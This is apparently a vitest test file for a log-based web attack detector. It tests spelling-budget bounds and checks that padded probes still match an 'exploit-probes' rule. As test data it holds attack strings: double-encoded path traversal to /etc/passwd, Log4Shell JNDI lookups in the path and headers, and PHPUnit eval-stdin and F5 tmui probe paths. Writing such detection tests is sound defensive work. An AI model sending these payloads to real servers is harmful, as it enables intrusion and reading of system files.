/**
 * The spellings a request target is tested in (rule.ts MatchView: as written, percent-decoded once
 * and twice, `\` and `//` normalised, dot segments resolved, `;…` parameters dropped, for the path,
 * the query and the whole target) stay within a small multiple of the target's length, however a
 * client combines what multiplies them; and padding a probe with such text never hides it: a list cut
 * at its budget makes the line count (review H46).
 *
 * Counted in characters made and scanned, not timed: before, an 8 KiB target of `a%252e%252e/.;x\./`
 * had 15 path spellings and 9 whole-target ones, 17 times its length (~1.3 ms a line with the
 * default rules, ~60 µs for 8 KiB of letters).
 */
import { describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import { PRESETS } from '../../../src/detect/presets.js';
import { compileRule, MatchView } from '../../../src/detect/rule.js';
import { RuleMatcher } from '../../../src/detect/rule-matcher.js';
import { LiteralScanner } from '../../../src/detect/literal-scanner.js';
import { createLineParser } from '../../../src/parse/line-parser.js';
import { isSkip, type AccessEvent } from '../../../src/parse/access-event.js';
import { rng } from '../../support/random.js';

const ev = (path: string, status = 404): AccessEvent => ({ ip: '198.18.0.1', family: 4, time: 0, method: 'GET', path, status });
const fill = (unit: string, n: number): string => unit.repeat(Math.ceil(n / unit.length)).slice(0, n);

/** What multiplies spellings, alone and together. */
const UNITS = ['a%252e%252e/.;x\\./', '/.;/x;', '/./', '/../', '%41%2e%2f%5c', '%252e%252e%252f', '\\\\', '//', '\\x5c\\x2e', '%09%0a%0d', '%c0%ae%u002e;/./'];

/** Seeded random text from the units and their characters (a client's own mixes). */
function randomHostile(seed: number, n: number): string {
  const r = rng(seed);
  const parts = [...UNITS, '%', '2', '5', 'e', '.', ';', '/', '\\', '#', '?', '&', '=', 'a'];
  let s = '';
  while (s.length < n) s += parts[Math.floor(r() * parts.length)]!;
  return s.slice(0, n);
}

function hostileTargets(n: number): string[] {
  const out: string[] = [];
  for (const u of UNITS) {
    out.push(`/${fill(u, n)}`);
    out.push(`/x.php?${fill(u, n)}`);
    out.push(`/${fill(u, n / 2)}?${fill(u, n / 2)}`);
  }
  for (let seed = 1; seed <= 12; seed++) out.push(`/${randomHostile(seed, n)}`);
  return out;
}

const chars = (list: readonly string[]): number => list.reduce((sum, s) => sum + s.length, 0);

describe('spellings of a hostile target', () => {
  it('each list stays within a small multiple of the text it spells', () => {
    for (const n of [8192, 32_768]) {
      for (const t of hostileTargets(n)) {
        const v = new MatchView();
        v.reset(ev(t));
        const path = v.path().length;
        const query = v.query().length;
        const whole = v.wholeTarget().length;
        // Each list: its text, plus at most 4 times it and 4 KiB (rule.ts spellingBudget); the
        // written form of a served path once more.
        expect(chars(v.pathVariants()), `path of ${JSON.stringify(t.slice(0, 40))}`).toBeLessThanOrEqual(6 * path + 4096);
        expect(chars(v.queryVariants()), `query of ${JSON.stringify(t.slice(0, 40))}`).toBeLessThanOrEqual(5 * query + 4096);
        expect(chars(v.targetVariants()), `target of ${JSON.stringify(t.slice(0, 40))}`).toBeLessThanOrEqual(5 * whole + 4096);
      }
    }
  });

  it('the prefilter scans a bounded number of characters per hostile line', () => {
    // Every distinct spelling the target gate scans (LiteralScanner.scanSpelling), counted.
    let scanned = 0;
    const original = LiteralScanner.prototype.scanSpelling;
    LiteralScanner.prototype.scanSpelling = function (this: LiteralScanner, text: string, seen: Int32Array, gen: number): void {
      scanned += text.length;
      original.call(this, text, seen, gen);
    };
    try {
      const rules = Object.keys(PRESETS).map((name) => compileRule(name, PRESETS[name]!));
      for (const t of hostileTargets(8192)) {
        const m = new RuleMatcher(rules);
        scanned = 0;
        m.match(ev(t));
        expect(scanned, JSON.stringify(t.slice(0, 40))).toBeLessThanOrEqual(10 * t.length + 3 * 4096);
      }
    } finally {
      LiteralScanner.prototype.scanSpelling = original;
    }
  });
});

describe('padding never hides a probe', () => {
  const defaults = ['forbidden', 'exploit-probes', 'sensitive-paths'].map((name) => compileRule(name, PRESETS[name]!));
  const matcher = new RuleMatcher(defaults);
  const names = (t: string, status = 404): string[] => {
    const n = matcher.match(ev(t, status));
    return Array.from(matcher.matched.slice(0, n), (i) => defaults[i]!.name);
  };
  // Probes that only a late spelling shows (decoded twice, parameters dropped, dot segments resolved).
  const probes = ['/%252e%252e/%252e%252e/etc/passwd', '/x/..;/manager/html/..%252f..%252fetc%252fpasswd', '/_/;/META-INF/maven/x', '/./tmui/login.jsp', '/%2524%257bjndi:ldap://x/a%257d'];

  it('a probe after or before padding still counts, whatever the padding', () => {
    for (const probe of probes) {
      expect(names(probe), probe).toContain('exploit-probes');
      for (const n of [2048, 8192, 32_000]) {
        for (let seed = 1; seed <= 4; seed++) {
          const pad = randomHostile(seed * 7, n).replace(/[?#]/g, '/');
          for (const t of [`/${pad}${probe}`, `${probe}/${pad}`]) {
            expect(names(t), `${probe} with ${n} of padding (seed ${seed})`).toContain('exploit-probes');
          }
        }
      }
    }
  });
});

describe('ordinary targets', () => {
  it('are never cut: long percent-encoded, escaped and parameter-laden targets', () => {
    const utf8 = '\\xE4\\xB8\\xAD\\xE6\\x96\\x87';
    const targets = [
      `/search?q=${fill('%7B%22key%22%3A%22value%22%7D%2C', 8000)}`,
      `/${fill(utf8, 32_000)}`,
      `/app;jsessionid=ABCDEF0123456789/${fill('page/', 6000)}?next=%2Fhome%2F&x=1`,
      `/static//${fill('a/b/c/', 7000)}`,
      `/a%20b/${fill('%E4%B8%AD', 8000)}`,
    ];
    for (const t of targets) {
      const v = new MatchView();
      v.reset(ev(t));
      expect(v.spellingsCut(), t.slice(0, 40)).toBe(false);
    }
  });

  it('are never cut in the fixtures', () => {
    const parse = createLineParser('auto');
    let n = 0;
    for (const line of readFileSync(new URL('../../fixtures/benign/access.log', import.meta.url), 'latin1').split('\n')) {
      const e = parse(line);
      if (isSkip(e)) continue;
      const v = new MatchView();
      v.reset(e);
      expect(v.spellingsCut(), e.path).toBe(false);
      n++;
    }
    expect(n).toBeGreaterThan(100);
  });
});

describe('a field longer than the rules read', () => {
  const defaults = ['forbidden', 'exploit-probes'].map((name) => compileRule(name, PRESETS[name]!));
  const matcher = new RuleMatcher(defaults);
  const parse = createLineParser('auto');
  const counted = (line: string): string[] => {
    const e = parse(line);
    if (isSkip(e)) throw new Error(`skipped: ${e}`);
    const n = matcher.match(e);
    return Array.from(matcher.matched.slice(0, n), (i) => defaults[i]!.name);
  };
  const line = (target: string, ua: string, referer = '-'): string =>
    `198.18.0.9 - - [07/Dec/2026:00:00:00 +0000] "GET ${target} HTTP/1.1" 404 12 "${referer}" "${ua}"`;
  // Past 32,768 characters (MAX_PATH_TESTED): a server with raised limits (LimitRequestLine,
  // LimitRequestFieldSize) logs such fields, and the rules never read there.
  const pads = [fill('a', 33_000), fill('abc/', 40_000), fill('\\xC3\\xA9', 33_000)];

  it('counts a probe padded past what the rules read, in the target or a header', () => {
    const r = rng(46);
    for (const pad of pads) {
      const probe = ['/eval-stdin.php', '/../../etc/passwd', '/${jndi:ldap://x/a}'][Math.floor(r() * 3)]!;
      expect(counted(line(`/${pad}${probe}`, 'Mozilla/5.0')), `target padded with ${pad.slice(0, 8)}`).toContain('exploit-probes');
      expect(counted(line('/index.html', `Mozilla/5.0 ${pad} \${jndi:ldap://x/a}`)), `UA padded with ${pad.slice(0, 8)}`).toContain('exploit-probes');
      expect(counted(line('/index.html', 'Mozilla/5.0', `https://x/${pad}\${jndi:ldap://x/a}`)), `referer padded with ${pad.slice(0, 8)}`).toContain('exploit-probes');
    }
  });

  it('leaves fields within what the rules read as they were', () => {
    expect(counted(line(`/${fill('a', 32_000)}`, `Mozilla/5.0 ${fill('a', 32_000)}`, `https://x/${fill('a', 32_000)}`))).toEqual([]);
    expect(counted(line(`/${fill('a', 32_000)}/eval-stdin.php`, 'Mozilla/5.0'))).toContain('exploit-probes');
  });
});
